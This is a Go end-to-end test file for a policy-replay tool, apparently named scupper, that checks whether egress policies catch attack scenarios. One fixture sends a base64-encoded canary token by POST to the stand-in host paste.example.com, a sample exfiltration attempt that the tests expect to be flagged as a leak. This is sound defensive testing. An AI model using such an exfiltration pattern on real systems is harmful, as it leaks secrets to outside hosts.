@@ -1,0 +1,140 @@
+package e2e
+
+import (
+	"encoding/json"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+// pack copies the scenarios of this folder to where u can read them.
+func (w *world) pack() string {
+	w.t.Helper()
+	dir := w.user.folder(w.t, "pack") + "/pack"
+	err := filepath.WalkDir("scenarios", func(path string, e os.DirEntry, err error) error {
+		if err != nil || e.IsDir() {
+			return err
+		}
+		text, err := os.ReadFile(path)
+		if err != nil {
+			return err
+		}
+		w.user.file(w.t, filepath.Join(dir, strings.TrimPrefix(path, "scenarios/")), text)
+		return nil
+	})
+	if err != nil {
+		w.t.Fatal(err)
+	}
+	return dir
+}
+
+// replayed is what --json prints.
+type replayed struct {
+	OK                                      bool
+	Scenarios, Passed, Leaks, Refused, Dead int
+	Results                                 []struct {
+		Name   string
+		OK     bool
+		Faults []struct{ Kind, Text string }
+	}
+}
+
+func (a *attempt) replayed() (r replayed) {
+	a.t.Helper()
+	if err := json.Unmarshal([]byte(a.stdout), &r); err != nil {
+		a.t.Fatalf("%s\n%v", a, err)
+	}
+	return r
+}
+
+// TestPackHolds replays every scenario, as root and as an ordinary user, and shows that
+// every attack arrives where scupper is left out.
+func TestPackHolds(t *testing.T) {
+	for _, u := range users(t) {
+		t.Run(u.name, func(t *testing.T) {
+			w := newWorld(t, u)
+			dir := w.pack()
+			got := w.scupper("replay", "--json", dir).wantExit(0).replayed()
+			if !got.OK || got.Passed != got.Scenarios || got.Scenarios == 0 {
+				t.Errorf("got %+v", got)
+			}
+			alive := w.scupper("replay", "--json", "--without", "all", dir).wantExit(0).replayed()
+			if !alive.OK || alive.Scenarios == 0 {
+				t.Errorf("got %+v", alive)
+			}
+		})
+	}
+}
+
+const leakyPolicy = `version = 1
+grant "paste" {
+  reason = "test"
+  owner  = "test"
+  host   = "paste.example.com"
+  credential = anonymous
+  allow {
+    methods = ["POST"]
+    path    = "/"
+    body {
+      type = "text/plain"
+      max  = "1KiB"
+    }
+  }
+}
+`
+
+const pasted = `scenario "paste" {
+  describe = "a paste"
+  attempt {
+    http {
+      method  = "POST"
+      url     = "https://paste.example.com/"
+      headers = { Content-Type = "text/plain" }
+      body    = %s
+    }
+  }
+  expect {
+    verdict = "%s"
+  }
+}
+`
+
+// TestReplayFindsFaults plants one fault of each kind.
+func TestReplayFindsFaults(t *testing.T) {
+	w := newWorld(t, ordinaryUser(t))
+	plant := func(policy, body, verdict string) string {
+		w.work("policy.hcl", policy)
+		return w.work("s.hcl", strings.NewReplacer("%s", body, `"%s"`, `"`+verdict+`"`).Replace(pasted))
+	}
+	t.Run("a leak, whatever the log says", func(t *testing.T) {
+		path := plant(leakyPolicy, "base64(canary.token)", "allow")
+		a := w.scupper("replay", path).wantExit(1)
+		a.wantStdout("LEAK").wantStdout("base64").wantStdout("policy.hcl:7:3")
+	})
+	t.Run("a known use of the same grant", func(t *testing.T) {
+		path := plant(leakyPolicy, `"hello"`, "allow")
+		w.scupper("replay", path).wantExit(0)
+	})
+	t.Run("a job that is refused", func(t *testing.T) {
+		path := plant("version = 1\n", `"hello"`, "allow")
+		w.scupper("replay", path).wantExit(1).wantStdout("REFUSED")
+	})
+	t.Run("an attack that is not refused", func(t *testing.T) {
+		path := plant(leakyPolicy, `"hello"`, "deny")
+		w.scupper("replay", path).wantExit(1).wantStdout("nothing was refused")
+	})
+	t.Run("an attack that cannot fail", func(t *testing.T) {
+		path := plant("version = 1\n", `"hello"`, "deny")
+		w.scupper("replay", path).wantExit(0)
+		w.scupper("replay", "--without", "all", path).wantExit(1).wantStdout("CANNOT FAIL")
+	})
+	t.Run("a mistake", func(t *testing.T) {
+		path := plant("version = 1\n", `nobody.knows`, "deny")
+		w.scupper("replay", path).wantExit(2).wantStderr("s.hcl:8,").wantStderr("nothing was run").farSideNothing()
+	})
+	t.Run("a policy with a mistake", func(t *testing.T) {
+		path := plant("version = 2\n", `"hello"`, "deny")
+		w.scupper("replay", path).wantExit(2).wantStderr("policy.hcl")
+	})
+}
